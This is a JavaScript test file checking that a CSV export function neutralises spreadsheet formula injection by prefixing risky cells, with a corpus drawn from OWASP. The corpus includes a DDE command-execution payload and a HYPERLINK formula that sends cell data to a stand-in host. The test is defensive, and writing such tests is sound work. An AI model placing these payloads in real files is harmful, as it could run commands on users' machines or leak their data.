/** R107: what stands in a file for spreadsheets is text to them, whatever it is. */

import { csvLine } from '../../../src/pages/console/people/csv.js';

/** OWASP, CSV injection. */
const CORPUS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '+447700900123',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '＝1',
  '＋1',
  '＠x',
  '=HYPERLINK("https://evil.test?x="&A1,"x")',
];

it.each(CORPUS)('%j is no formula', (text) => {
  const line = csvLine([text, 'x']);
  expect(line).toBe(`"'${text.replaceAll('"', '""')}","x"\r\n`);
});

it.each(['anna.b', 'u-1', 'a=b', 'x"y', 'a,b', 'line\nbreak', ''])('%j stays as it is', (text) => {
  expect(csvLine([text])).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
});
